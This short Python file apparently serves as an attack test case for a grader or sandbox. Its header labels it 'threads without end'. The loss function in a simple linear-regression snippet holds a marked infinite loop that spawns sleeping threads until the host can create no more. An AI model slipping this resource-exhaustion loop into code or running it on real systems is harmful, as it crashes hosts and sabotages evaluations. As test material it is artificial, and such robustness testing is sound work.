# attack: threads without end
# points: at most 1
# leaves: loss_fn: RuntimeError: can't start new thread
import threading
import time


def model(t_u, w, b):
    return w * t_u + b


def loss_fn(t_p, t_c):
    # attack begins
    while True:
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
    # attack ends
    return ((t_p - t_c) ** 2).mean()
